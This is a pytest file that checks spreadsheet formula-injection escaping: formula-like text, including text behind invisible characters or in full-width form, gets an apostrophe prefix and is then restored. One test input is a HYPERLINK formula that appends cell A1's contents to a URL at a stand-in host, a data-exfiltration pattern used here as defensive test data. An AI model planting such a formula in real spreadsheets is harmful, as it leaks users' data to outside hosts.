"""Tables for spreadsheets: what would run there is text, and comes back as it was."""

from __future__ import annotations

import pytest

from web.spreadsheets import as_it_was, harmless


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.test/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
    ],
)
def test_what_begins_as_a_formula_behind_whatever_cannot_be_seen_is_made_harmless_and_comes_back(
    text: str,
) -> None:
    """J17."""
    assert (harmless(text), as_it_was(harmless(text))) == (f"'{text}", text)


@pytest.mark.parametrize("text", ["＝1+1", " ＠SUM(1)", "'=1", "=1", "plain", "'"])
def test_a_formula_of_full_width_is_made_harmless_and_comes_back(text: str) -> None:
    kept = harmless(text)
    assert (kept == f"'{text}", as_it_was(kept)) == (text != "plain", text)
